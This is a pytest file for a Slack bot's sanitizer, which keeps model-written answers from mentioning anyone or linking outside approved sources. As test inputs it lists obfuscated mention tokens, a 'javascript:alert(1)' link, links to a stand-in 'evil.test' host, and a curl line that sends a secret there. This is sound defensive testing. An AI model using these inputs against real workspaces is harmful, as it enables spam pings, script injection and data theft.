"""The last gate: nothing that leaves mentions anybody or leads elsewhere, however it is spelled or cut."""

from __future__ import annotations

import time
from dataclasses import replace
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.slack.render.answer_message import messages
from bot.slack.render.sanitize import (
    Stream,
    defuse_mentions,
    defuse_mentions_in_code,
    leads,
    plain_line,
    sanitized,
    source_links,
)
from navigator.answer import CitedSource
from navigator.citations.links import LEFT_OUT, Gate, gate_of
from navigator.markdown.blocks import MIN_PART_CHARACTERS, markdown_of
from navigator.markdown.parse import parse_markdown
from tests.fakes.exchanges import NOON
from tests.unit.bot.slack.made import (
    DOCUMENT,
    NOISE,
    SITE,
    answer,
    fences_closed,
    links,
    live,
    passage,
    read,
)

MENTIONS = [
    "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S012AB3CD|@team>", "<@U012AB3CD>", "<@W0123|bob>",
    "<#C012AB3CD|general>", "<!date^1392734382^{date}^https://evil.test|x>", "< ! channel >", "<!\u200bchannel>",
    "<\u2060@U012AB3CD>", "<!CHANNEL>", "<!chan\u00adnel>", "<@U0\u200b12AB3CD>", "&lt;!channel&gt;", "\\<!here>",
]  # fmt: skip
BARE = [
    "@channel",
    "@here",
    "@everyone",
    "@ here",
    "@\u200bchannel",
    "@Channel",
    "(@here)",
    "@chan\u2060nel",
    "**@**here",
]
FOREIGN = [
    "https://evil.test/a", "[click](https://evil.test)", "<https://evil.test>", "HTTP://EVIL.test", "ftp://evil.test/x",
    "![pic](https://evil.test/p.png)", "[x](javascript:alert(1))", "www.evil.test/login", "evil.test/login", "mailto:a@evil.test",
    "slack://user?team=T1&id=U1", "[r]\n\n[r]: https://evil.test", "https://evil.test\u200b/a", f"{SITE}.evil.test/guide/1",
    f"{SITE}/guide/1#another", "[`code`](https://evil.test)", "[https://docs.acme.test](https://evil.test)",
    "https&#58;//evil.test", "<tel:+123>", "[a](//evil.test)", "[a](/relative)",
]  # fmt: skip


def sent(text: str) -> str:
    made = answer(text)
    return markdown_of(sanitized(parse_markdown(text), gate_of(made), source_links(made.sources)))


@pytest.mark.parametrize("mention", [*MENTIONS, *BARE])
@pytest.mark.parametrize("around", ["{}", "so {} now", "- {}", "> {}", "# {}", "**{}**", "| a |\n|---|\n| {} |"])
def test_prose_mentions_nobody(mention: str, around: str) -> None:
    text = around.format(mention)
    assert live(sent(text)) == []
    assert live(plain_line(text)) == []


@pytest.mark.parametrize("mention", [m for m in MENTIONS if "&" not in m and "\\" not in m])
@pytest.mark.parametrize("around", ["`{}`", "```\n{}\n```", "    {}"])
def test_code_has_no_token_that_slack_would_turn_into_a_mention(mention: str, around: str) -> None:
    assert live(sent(around.format(mention))) == []


@pytest.mark.parametrize(
    "code",
    ["List<@NonNull String>", "#include <stdio.h>", "<!DOCTYPE html>", "<!-- x -->", "a <!b", "@Channel(\"in\")", "@here", "<#if x>"],
)  # fmt: skip
def test_code_without_such_tokens_is_verbatim(code: str) -> None:
    assert defuse_mentions_in_code(code) == code
    assert sent(f"```java\n{code}\n```") == f"```java\n{code}\n```"


@pytest.mark.parametrize("text", ["write to me@here.com", "a < b", "x <-- y", "@hereabouts", "5 > 3 @ home", "café <3"])
def test_harmless_prose_stays(text: str) -> None:
    assert defuse_mentions(text) == text


@pytest.mark.parametrize("foreign", FOREIGN)
@pytest.mark.parametrize("around", ["{}", "go to {}, now", "- {}", "> {}", "*{}*", "| a |\n|---|\n| {} |"])
def test_no_foreign_address_leaves(foreign: str, around: str) -> None:
    out = sent(around.format(foreign))
    assert set(links(out)) <= {f"{SITE}/guide/1"}
    assert "evil.test" not in out.lower()
    assert not any(word in out for word in ("mailto:", "slack:", "tel:+", "/login", "#another"))


@pytest.mark.parametrize("url", [f"{SITE}/guide/1", f"{SITE}/guide/1#section-1"])
@pytest.mark.parametrize("around", ["{}", "see {}.", "<{}>", "[words]({})"])
def test_links_of_read_sections_leave(url: str, around: str) -> None:
    assert links(sent(around.format(url))) == [url]


def test_an_address_that_a_section_says_stays_as_words_that_lead_nowhere() -> None:
    made = answer("Open http://localhost:8080/admin, then https://made-up.test.", passages=0)
    read_section = passage(1, words="Open http://localhost:8080/admin in your browser.")
    made = replace(made, trace=replace(made.trace, passages=(read_section,)))
    out = markdown_of(sanitized(parse_markdown(made.text), gate_of(made), {}))
    assert out == f"Open `http://localhost:8080/admin`, then {LEFT_OUT}."


def test_addresses_in_a_span_of_code_stay_verbatim() -> None:
    """Slack makes no links of them."""
    assert sent("`curl https://api.test/v1`") == "`curl https://api.test/v1`"


def test_marks_lead_to_the_quoted_words_and_only_marks_do() -> None:
    made = answer("Scale [1][2]. Not [9], nor items[1], nor `[1]`.", passages=2)
    out = sent(made.text)
    first, second = (source.first.link for source in made.sources)
    assert f"Scale [[1]]({first})[[2]]({second})." in out
    assert links(out) == [first, second]


def test_an_address_too_long_for_slack_gives_way_to_the_sections_own() -> None:
    cited = passage(1).cite(0)
    assert source_links([CitedSource(1, (replace(cited, link="https://x.test/" + "a" * 3_000),))]) == {
        1: cited.node_link
    }
    assert not leads("https://x.test/" + "a" * 3_000)


@given(NOISE | st.lists(st.sampled_from([*MENTIONS, *BARE, *FOREIGN, "a", "`", "*", "[", "](", "\n"])).map("".join))
def test_whatever_a_model_writes_is_neutral(text: str) -> None:
    out = sent(text)
    assert live(out) == []
    assert set(links(out)) <= gate_of(answer("")).links


def bits(text: str, cuts: list[int]) -> list[str]:
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    return [text[a:b] for a, b in pairwise(places)]


def streamed(text: str, cuts: list[int], limit: int = 12_000) -> list[str]:
    made = answer("")
    stream = Stream(made.trace.passages, limit)
    pieces = [piece for bit in bits(text, cuts) for piece in stream.feed(bit, made.sources)]
    pieces += stream.finish(made.sources)
    assert stream.sent == sum(map(len, pieces))
    return pieces


@given(DOCUMENT | NOISE, st.lists(st.integers(0, 5_000), max_size=12))
def test_a_stream_shows_the_same_answer_wherever_it_is_cut(text: str, cuts: list[int]) -> None:
    assert "".join(streamed(text, cuts)) == "".join(streamed(text, []))


@settings(max_examples=40)
@given(DOCUMENT, st.lists(st.integers(0, 5_000), max_size=8))
def test_a_streams_pieces_are_whole_neutral_and_within_limits(text: str, cuts: list[int]) -> None:
    text = "\n\n".join([text] * 2 + MENTIONS + FOREIGN)
    pieces = streamed(text, cuts, MIN_PART_CHARACTERS + 2)
    assert all(0 < len(piece) <= MIN_PART_CHARACTERS + 2 for piece in pieces)
    assert all(fences_closed(piece) for piece in pieces)
    assert live(pieces) == []
    assert {link for piece in pieces for link in links(piece)} <= gate_of(answer("")).links
    if "| h |" not in text:
        assert "".join(map(read, pieces)) == read(sent(text))


def test_a_stream_shows_a_block_as_soon_as_the_next_begins() -> None:
    stream = Stream(())
    assert stream.feed("Scale the po") == ()
    assert stream.feed("ds.\n\n") == ()
    assert stream.feed("``") == ()
    assert stream.feed("`sh\nkubectl") == ("Scale the pods.",)
    assert stream.feed(" scale\n") == ()
    assert stream.feed("```\nDone") == ()
    assert stream.feed(".\n") == ("\n\n```sh\nkubectl scale\n```",)
    assert stream.finish() == ("\n\nDone.",)
    assert stream.finish() == ()


def test_a_mark_becomes_a_link_once_its_source_is_known() -> None:
    stream = Stream((passage(1),))
    source = CitedSource(1, (passage(1).cite(0),))
    assert stream.feed("One [1].\n\nTwo [1].\n") == ("One [1].",)
    assert stream.finish((source,)) == (f"\n\nTwo [[1]]({source.first.link}).",)


def test_only_the_first_table_of_a_stream_is_a_table() -> None:
    table = "| a | b |\n| --- | --- |\n| 1 | 2 |"
    pieces = streamed(f"{table}\n\ntext\n\n{table}\n", [20, 40, 60])
    assert ["```" in piece for piece in pieces if "a" in piece and "1" in piece] == [False, True]


@pytest.mark.parametrize(
    "seed", ["a.", "a-", "a:", "http://", "www.", "<", "<! ", "@", "@\u200b", " ", "[1", "1] ", "\t"]
)
def test_time_grows_with_the_text_and_not_faster(seed: str) -> None:
    """What was quadratic would take minutes here."""
    began = time.perf_counter()
    text = f"a{seed * 50_000}b"
    plain_line(text)
    defuse_mentions(text)
    assert time.perf_counter() - began < 10


@pytest.mark.parametrize("gap", [" ", "\t", "\u3000"])
def test_long_gaps_in_an_answer_cost_no_time(gap: str) -> None:
    began = time.perf_counter()
    text = f"One{gap * 50_000}two&#10; three{gap * 50_000}[1]."
    assert sent(text).startswith("One")
    messages(answer(text), question_id="T1:C1:1", now=NOON)
    assert time.perf_counter() - began < 10


def test_a_stream_needs_room() -> None:
    with pytest.raises(ValueError, match="1002"):
        Stream((), 500)


@pytest.mark.parametrize(
    "host",
    [
        "evil.com",
        "a.b.evil.io",
        "10.0.0.1",
        "10.0.0.1:8080",
        "EVIL.ru",
        "evil.com:80",
        "bob@evil.com",
        "evil.co.nz",
        "EVIL.COM",
    ],
)
def test_a_bare_host_is_no_link(host: str) -> None:
    [piece] = sanitized(parse_markdown(f"Ask {host}, or **{host}**."), Gate(), {})
    assert markdown_of([piece]) == f"Ask `{host}`, or **`{host}`**."
    assert host not in plain_line(f"Ask {host} now")


@pytest.mark.parametrize("words", ["Node.js", "version 1.2.3", "e.g. this", "a.b", "3.14"])
def test_words_with_a_dot_stay_words(words: str) -> None:
    [piece] = sanitized(parse_markdown(words), Gate(), {})
    assert (markdown_of([piece]), plain_line(words)) == (words, words)


@pytest.mark.parametrize(
    "host",
    [
        "evil.museum",
        "evil.xn--p1ai",
        "зло.рф",
        "gc.auto",
        "config.yaml",
        "ray.init()",
        "RITBOT_SLACK__BOT_TOKEN",
        "snake_case_name",
        "--dry-run",
        "/slack/events",
    ],
)
def test_what_may_be_a_host_is_code(host: str) -> None:
    [piece] = sanitized(parse_markdown(f"Set {host} here."), Gate(), {})
    assert markdown_of([piece]) == f"Set `{host}` here."


@pytest.mark.parametrize(
    "text",
    [
        "It leaks.Then stop.",
        "e.g. 1.5 GB, v1.2.3, 3.5x",
        "Use a.m. or p.m.",
        "…and so on...",
        "and/or, 24/7, -x",
        "a -- b --- c",
        "w/o it",
    ],
)
def test_what_is_no_host_stays_as_it_is(text: str) -> None:
    [piece] = sanitized(parse_markdown(text), Gate(), {})
    assert markdown_of([piece]) == text


def test_code_leads_nowhere_but_where_a_section_does() -> None:
    said = Gate(said="Call https://api.acme.test/v1/pumps with curl.")
    [code] = sanitized(
        parse_markdown(
            "```sh\ncurl https://api.acme.test/v2\ncurl https://evil.test/?q=secret\nopen http://localhost:1\n```"
        ),
        said,
        {},
    )
    assert code.plain.split("\n") == [
        "curl https://api.acme.test/v2",
        "curl https:/\u200b/evil.test/?q=secret",
        "open http://localhost:1",
    ]
